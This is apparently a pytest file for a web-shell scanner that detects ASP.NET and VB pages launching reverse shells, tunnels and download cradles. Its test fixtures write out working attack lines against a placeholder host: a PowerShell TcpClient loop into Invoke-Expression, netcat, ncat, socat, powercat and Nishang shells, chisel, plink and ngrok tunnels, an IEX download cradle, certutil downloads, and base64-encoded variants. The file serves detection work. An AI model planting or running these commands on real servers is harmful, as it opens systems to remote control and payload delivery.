"""Commands that open the server to another host (EXH-WS-CODE-REMOTE-ACCESS-COMMAND): reverse
shells (PowerShell's TcpClient loop into Invoke-Expression, netcat and ncat given a shell to run,
socat's exec:, powercat and Nishang) and tunnels (SSH remote forwards, chisel, frpc, ngrok,
EarthWorm, netsh's port proxy), each with a fixed command line. PowerShell's encoded
commands (`-enc <base64>`) are decoded for every rule that judges a fixed command line (a
download cradle kept encoded is EXH-WS-CODE-DOWNLOAD-COMMAND's), and the decoded text is shown.
Kept quiet: an encoded command that does none of this, PowerShell running a script file, netcat
without a program to run, and switches that only look like `-e`."""

from __future__ import annotations

import base64

import pytest

from code_support import assert_benign, assert_found, chain_of, cs_page, run, vb_page
from exhunt.codeanalysis.encodedcommand import decoded, decoded_commands

REVERSE = "EXH-WS-CODE-REMOTE-ACCESS-COMMAND"
DOWNLOAD = "EXH-WS-CODE-DOWNLOAD-COMMAND"
# A TcpClient loop of the documented kind: read a line from the listener, run it, send the output.
LOOP = (
    "$c = New-Object System.Net.Sockets.TCPClient('203.0.113.7', 443); $s = $c.GetStream(); "
    "$r = New-Object IO.StreamReader($s); $w = New-Object IO.StreamWriter($s); "
    "while ($true) { $l = $r.ReadLine(); $o = (Invoke-Expression $l 2>&1 | Out-String); $w.Write($o); $w.Flush() }"
)


def encoded(script: str) -> str:
    """What `powershell -EncodedCommand` takes: the base64 of the script's UTF-16LE text."""
    return base64.b64encode(script.encode("utf-16-le")).decode()


SHELLS = [
    (
        "tcp-loop.aspx",
        cs_page(
            'var psi = new System.Diagnostics.ProcessStartInfo("powershell.exe", "-nop -w hidden -c \\"'
            + LOOP
            + '\\"");\nSystem.Diagnostics.Process.Start(psi);'
        ),
        "TCPClient",
    ),
    (
        "tcp-loop-encoded.aspx",
        cs_page(f'System.Diagnostics.Process.Start("powershell.exe", "-w hidden -ec {encoded(LOOP)}");'),
        "-EncodedCommand decoded: $c = New-Object System.Net.Sockets.TCPClient",
    ),
    (
        "ncat.aspx",
        cs_page('System.Diagnostics.Process.Start("ncat.exe", "203.0.113.7 443 --sh-exec cmd.exe");'),
        "--sh-exec cmd.exe",
    ),
    (
        "nc-cmd.aspx",
        cs_page('System.Diagnostics.Process.Start("cmd.exe", "/c nc 203.0.113.7 4444 -e cmd");'),
        "nc 203.0.113.7 4444 -e cmd",
    ),
    (
        "socat.aspx",
        cs_page('System.Diagnostics.Process.Start("socat.exe", "tcp:203.0.113.7:443 exec:cmd.exe,pipes");'),
        "exec:cmd.exe",
    ),
    (
        "powercat.aspx",
        cs_page(
            "System.Management.Automation.PowerShell.Create()"
            '.AddScript("powercat -c 203.0.113.7 -p 443 -e cmd").Invoke();'
        ),
        "powercat -c",
    ),
    (
        "nishang.aspx",
        vb_page(
            'Dim p As New System.Diagnostics.Process()\np.StartInfo.FileName = "powershell.exe"\n'
            'p.StartInfo.Arguments = "-c Invoke-PowerShellTcp -Reverse -IPAddress 203.0.113.7 -Port 443"\np.Start()'
        ),
        "Invoke-PowerShellTcp",
    ),
]


TUNNELS = [
    ("plink.exe -batch -R", "plink.exe -batch -R 3389:127.0.0.1:3389 u@203.0.113.7"),
    ("chisel", "chisel.exe client 203.0.113.7:8443 R:socks"),
    ("frpc", "frpc.exe -c frpc.ini"),
    ("ngrok", "ngrok tcp 3389"),
    ("ew", "ew_for_win_32.exe -s rssocks -d 203.0.113.7 -e 8888"),
    ("portproxy", "netsh interface portproxy add v4tov4 listenport=8443 connectaddress=10.0.0.5 connectport=443"),
]
SHELLS += [
    (f"tunnel-{i}.aspx", cs_page(f'System.Diagnostics.Process.Start("cmd.exe", "/c {line}");'), shown.split()[0])
    for i, (shown, line) in enumerate(TUNNELS)
]


@pytest.mark.parametrize(("name", "code", "shown"), SHELLS, ids=[s[0] for s in SHELLS])
def test_remote_access_command_found(name: str, code: str, shown: str) -> None:
    assert_found(name, code, REVERSE, ["opens the server to another host", shown])


@pytest.mark.parametrize("switch", ["-enc", "-EncodedCommand", "-e", "/ec", "-EncodedC"])
def test_an_encoded_download_cradle_is_read(switch: str) -> None:
    cradle = encoded("IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a.ps1')")
    code = cs_page(f'System.Diagnostics.Process.Start("cmd.exe", "/c powershell -nop {switch} {cradle}");')
    chain = chain_of(run("cradle.aspx", code), DOWNLOAD)
    assert "-EncodedCommand decoded: IEX (New-Object Net.WebClient).DownloadString" in chain


LOOKALIKES = [
    (
        "encoded-report.aspx",
        cs_page(
            f'System.Diagnostics.Process.Start("powershell.exe", "-NoProfile -EncodedCommand {encoded("Get-Date")}");'
        ),
    ),
    (
        "script-file.aspx",
        cs_page('System.Diagnostics.Process.Start("powershell.exe", "-File C:\\\\scripts\\\\report.ps1");'),
    ),
    # netcat sending a file: no program is run for the connection
    ("nc-send.aspx", cs_page('System.Diagnostics.Process.Start("nc.exe", "-w 3 backup.example 9000 < db.bak");')),
    # `-e` of another tool, and base64 that is no UTF-16 text
    ("robocopy.aspx", cs_page('System.Diagnostics.Process.Start("robocopy.exe", "C:\\\\a D:\\\\b /e /np");')),
    # ssh without a remote forward, and a local forward
    ("ssh-backup.aspx", cs_page('System.Diagnostics.Process.Start("ssh.exe", "-i key backup@files.example ls");')),
    ("netsh-show.aspx", cs_page('System.Diagnostics.Process.Start("netsh.exe", "interface portproxy show all");')),
    ("ffmpeg.aspx", cs_page('System.Diagnostics.Process.Start("ffmpeg.exe", "-i in.mp4 -e QUJDREVGR0g= out.mp4");')),
]


@pytest.mark.parametrize(("name", "code"), LOOKALIKES, ids=[s[0] for s in LOOKALIKES])
def test_lookalike_not_reported(name: str, code: str) -> None:
    assert_benign(name, code)


def test_decoding_is_bounded_and_exact() -> None:
    assert decoded(encoded("whoami /all")) == "whoami /all"
    assert decoded("QUJDREVGR0g=") is None  # "ABCDEFGH": bytes, not UTF-16LE text
    assert decoded("not base64!") is None
    line = "powershell " + " ".join(f"-enc {encoded(f'echo {i}')}" for i in range(20))
    assert decoded_commands(line) == ([f"echo {i}" for i in range(8)], True)
    assert decoded_commands("cmd /c dir") == ([], False)


def test_encoded_commands_past_the_bound_are_a_limit_problem() -> None:
    # Fail closed: what was not decoded is said, so the page is not read as fully judged.
    line = "-nop " + " ".join(f"-enc {encoded(f'echo {i}')}" for i in range(12))
    report = run("many.aspx", cs_page(f'System.Diagnostics.Process.Start("powershell.exe", "{line}");'))
    assert any(p.kind == "limit" and "encoded PowerShell commands" in p.message for p in report.problems)
    few = run("few.aspx", cs_page(f'System.Diagnostics.Process.Start("powershell.exe", "-enc {encoded("echo 1")}");'))
    assert not any(p.kind == "limit" for p in few.problems)


CERTUTIL = "/c certutil -urlcache -split -f http://203.0.113.7/a.exe C:\\\\Windows\\\\Temp\\\\a.exe"
STORED = [
    (
        "start-info-members",
        cs_page(
            'var p = new System.Diagnostics.Process();\np.StartInfo.FileName = "cmd.exe";\n'
            f'p.StartInfo.Arguments = "{CERTUTIL}";\np.Start();'
        ),
    ),
    (
        "start-info-object",
        cs_page(
            'var psi = new System.Diagnostics.ProcessStartInfo();\npsi.FileName = "cmd.exe";\n'
            f'psi.Arguments = "{CERTUTIL}";\nSystem.Diagnostics.Process.Start(psi);'
        ),
    ),
    (
        "initializer",
        cs_page(
            'System.Diagnostics.Process.Start(new System.Diagnostics.ProcessStartInfo { FileName = "cmd.exe", '
            f'Arguments = "{CERTUTIL}", UseShellExecute = false }});'
        ),
    ),
    (
        "vb-with-initializer",
        vb_page(
            'Dim psi As New System.Diagnostics.ProcessStartInfo With {.FileName = "cmd.exe", '
            f'.Arguments = "{CERTUTIL}"}}\nSystem.Diagnostics.Process.Start(psi)'
        ),
    ),
]


@pytest.mark.parametrize(("name", "code"), STORED, ids=[s[0] for s in STORED])
def test_a_command_stored_into_the_process_is_judged(name: str, code: str) -> None:
    # What `Process.Start(file, arguments)` would be given, set on the object before it starts.
    assert_found(f"{name}.aspx", code, DOWNLOAD, ["certutil -urlcache", "cmd.exe"])


def test_a_fixed_tool_stored_into_the_process_stays_quiet() -> None:
    code = cs_page(
        'var p = new System.Diagnostics.Process();\np.StartInfo.FileName = Server.MapPath("~/bin/thumbs.exe");\n'
        'p.StartInfo.Arguments = "-q -size 120";\np.Start();'
    )
    assert_benign("thumbs.aspx", code)
